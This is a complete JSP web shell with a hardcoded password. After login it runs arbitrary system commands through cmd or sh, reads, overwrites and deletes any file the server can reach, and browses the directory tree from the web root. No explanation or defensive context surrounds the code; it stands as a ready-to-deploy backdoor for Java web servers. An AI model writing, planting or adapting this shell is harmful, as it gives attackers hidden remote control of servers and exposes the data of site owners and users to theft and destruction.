<%@ page import="java.io.*,java.util.*" contentType="text/html;charset=UTF-8" %>
<%!
    static final String PW = "EEvcmkyY";

    String exec(String c) throws IOException {
        boolean win = System.getProperty("os.name").toLowerCase().startsWith("win");
        Process p = Runtime.getRuntime().exec(win ? new String[]{"cmd", "/c", c} : new String[]{"sh", "-c", c});
        StringBuilder sb = new StringBuilder();
        BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l;
        while ((l = br.readLine()) != null) sb.append(l).append('\n');
        return sb.toString();
    }

    String esc(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
%>
<%
    if (!PW.equals(session.getAttribute("fm"))) {
        if (PW.equals(request.getParameter("pw"))) {
            session.setAttribute("fm", PW);
        } else {
            out.print("<form method='post'><input type='password' name='pw'><input type='submit'></form>");
            return;
        }
    }
    String act = request.getParameter("act");
    String path = request.getParameter("path");
    if (path == null) path = application.getRealPath("/");
    if ("cmd".equals(act)) {
        out.print("<pre>" + esc(exec(request.getParameter("c"))) + "</pre>");
    } else if ("read".equals(act)) {
        BufferedReader br = new BufferedReader(new FileReader(path));
        String l;
        out.print("<pre>");
        while ((l = br.readLine()) != null) out.println(esc(l));
        out.print("</pre>");
        br.close();
    } else if ("write".equals(act)) {
        FileWriter fw = new FileWriter(path);
        fw.write(request.getParameter("body"));
        fw.close();
        out.print("saved");
    } else if ("del".equals(act)) {
        out.print(new File(path).delete());
    } else {
        File[] fs = new File(path).listFiles();
        out.print("<h3>" + esc(path) + "</h3><ul>");
        if (fs != null) for (File f : fs) {
            out.print("<li><a href='?path=" + java.net.URLEncoder.encode(f.getAbsolutePath(), "UTF-8") + (f.isDirectory() ? "" : "&act=read") + "'>" + esc(f.getName()) + "</a> " + f.length() + "</li>");
        }
        out.print("</ul><form method='post'><input type='hidden' name='act' value='cmd'><input name='c' size='80'><input type='submit' value='exec'></form>");
    }
%>
